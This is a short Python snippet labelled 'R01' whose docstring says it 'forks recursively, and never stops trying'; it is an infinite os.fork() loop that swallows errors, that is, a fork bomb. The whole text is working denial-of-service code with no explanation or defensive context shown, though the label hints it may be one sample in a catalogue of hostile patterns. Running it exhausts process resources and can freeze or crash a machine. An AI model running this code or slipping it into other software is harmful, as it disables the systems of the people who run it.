"""R01: forks recursively, and never stops trying."""
while True:
    try:
        os.fork()
    except OSError:
        pass
